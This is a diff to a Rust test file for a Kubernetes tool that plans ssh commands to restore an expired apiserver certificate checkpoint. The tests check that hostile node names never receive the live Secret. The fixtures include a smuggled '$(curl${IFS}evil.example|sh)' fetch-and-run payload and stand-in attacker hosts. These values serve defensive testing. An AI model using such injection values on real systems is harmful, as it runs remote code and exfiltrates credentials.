@@ -108,6 +108,7 @@ fn log_hit(s: &mut Snapshot, rule: &str, component: &str, sample: &str) {
         last_yearless: None,
         refs: Vec::new(),
         seen: Default::default(),
+        host: None,
     });
 }
 
@@ -234,7 +235,12 @@ fn stale_checkpoint_fires_on_an_expired_copy_that_differs_from_the_secret() {
     );
     // The Secret is current, so the plan restores the copy from the API, on disk, first.
     let cmds = plan_commands(&s, "fix-checkpoint-on-disk");
-    assert!(cmds.iter().any(|c| c.contains("ssh -- master01 'sudo tee /etc/kubernetes/checkpoint-secrets/kube-system/kube-apiserver-x7k2p/kube-apiserver/apiserver.crt'")), "{cmds:#?}");
+    assert!(cmds.iter().any(|c| c.contains(r#"ssh -- "${NODE:?set NODE to the node as you reach it}" 'sudo tee /etc/kubernetes/checkpoint-secrets/kube-system/kube-apiserver-x7k2p/kube-apiserver/apiserver.crt'"#)), "{cmds:#?}");
+    assert!(
+        cmds.iter()
+            .any(|c| c.starts_with("NODE=...   # set to node master01")),
+        "{cmds:#?}"
+    );
     assert!(
         cmds.iter()
             .any(|c| c == "sudo systemctl restart kubelet   # on master01"),
@@ -243,14 +249,20 @@ fn stale_checkpoint_fires_on_an_expired_copy_that_differs_from_the_secret() {
     let out = all_formats(&s);
     assert!(!out.contains("BEGIN CERTIFICATE"));
 
-    // A node name that is no host name (`etc/hostname` is bundle data): the live Secret is
-    // never piped to `ssh` at it (hostile round 5, H1).
-    for hostile in ["cp-1@evil.example.com", "$(curl${IFS}evil.example|sh)@cp-1"] {
+    // The node name is bundle data (`etc/hostname`): the live Secret is never piped to
+    // `ssh` at it, even when it is a valid host name (hostile rounds 5 and 6).
+    for hostile in [
+        "cp-1@evil.example.com",
+        "$(curl${IFS}evil.example|sh)@cp-1",
+        "evil.example.com",
+        "203.0.113.7",
+    ] {
         let mut s = checkpoint_snapshot(cert("apiserver"), cert("ca"));
         s.nodes[0].name = hostile.into();
         let cmds = plan_commands(&s, "fix-checkpoint-on-disk");
-        assert!(!cmds.iter().any(|c| c.contains("ssh")), "{cmds:#?}");
-        assert!(cmds.iter().any(|c| c.contains("check it by hand")), "{cmds:#?}");
+        for c in cmds.iter().flat_map(|c| c.lines()).filter(|c| c.contains("ssh")) {
+            assert!(!c.contains(hostile) && c.contains("\"${NODE:?"), "{cmds:#?}");
+        }
     }
 }
 
